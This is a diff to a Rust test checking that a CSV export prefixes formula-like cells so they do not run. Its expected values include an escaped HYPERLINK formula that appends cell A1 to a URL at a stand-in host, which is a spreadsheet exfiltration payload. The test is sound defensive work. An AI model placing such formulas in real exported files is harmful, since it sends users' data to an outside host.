@@ -86,7 +86,6 @@ fn no_cell_of_a_table_is_a_formula() {
     town.write("c.md", text);
     let (status, out, _) = export(&town, &["--format", "csv"]);
     assert_eq!(status, 0);
-    let row = out.lines().nth(1).unwrap();
     for cell in [
         r#""'=1+1 We will decide this on Friday,""#,
         r#""'=HYPERLINK(""http://x.example/?""&A1,""x"")""#,
@@ -94,9 +93,9 @@ fn no_cell_of_a_table_is_a_formula() {
         r#""''+1""#,
         r#""'-1""#,
     ] {
-        assert!(row.contains(&format!(",{cell}")), "no {cell} in {row}");
+        assert!(out.contains(&format!(",{cell}")), "no {cell} in {out}");
     }
-    assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");
+    assert!(!out.contains(",=") && !out.contains(",\"="), "{out}");
     // The quotes are no articles: a table of them in a corpus is named, and nothing of it is indexed.
     town.write("quotes.csv", &out);
     let report = town.ingest();
